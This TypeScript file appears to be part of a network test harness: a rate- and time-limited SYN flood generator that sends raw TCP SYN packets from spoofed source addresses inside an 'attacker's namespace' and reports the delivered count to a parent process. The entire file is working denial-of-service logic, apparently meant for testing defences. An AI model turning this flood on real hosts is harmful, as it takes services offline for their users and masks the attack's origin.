/** A SYN flood, a process in the attacker's namespace: bounded in rate and time, from addresses that nobody has. */
import { randomInt } from 'node:crypto';
import { rawSend, rawSocket } from '#native/raw.ts';
import { closeFd } from '#native/socket.ts';
import type { FloodOrder } from './flood-order.ts';
import { synFrom } from './syn.ts';

const TICK_MS = 10;
const TCP = 6;
const FIRST_PORT = 1024;

const order: FloodOrder = JSON.parse(process.argv[2] ?? '');
const ways = order.from.map(address => ({
  fd: rawSocket({ family: 4, protocol: TCP, localAddress: address }),
  syn: synFrom(address, order.to, order.port),
}));

let sent = 0;
let delivered = 0;
function send(): void {
  const { fd, syn } = ways[sent % ways.length]!;
  const bytes = syn(randomInt(FIRST_PORT, 65_536), randomInt(2 ** 32));
  try {
    rawSend(fd, order.to, 4, bytes);
    delivered++;
  } catch (fault) {
    const { code = '' } = fault as NodeJS.ErrnoException;
    if (code !== 'EAGAIN' && code !== 'ENOBUFS') throw fault; // a queue is full: that one is lost
  }
  sent++;
}

process.on('disconnect', () => process.exit(0));
const beganMs = performance.now();
const timer = setInterval(() => {
  const elapsedMs = Math.min(performance.now() - beganMs, order.ms);
  const wanted = (elapsedMs / 1000) * order.perSecond;
  const least = (order.perSecond / 1000) * TICK_MS * 5; // no burst after a stall
  for (sent = Math.max(sent, Math.floor(wanted - least)); sent < wanted; ) send();
  if (elapsedMs < order.ms) return;
  clearInterval(timer);
  for (const { fd } of ways) closeFd(fd);
  process.send?.(delivered, () => process.disconnect?.());
}, TICK_MS);
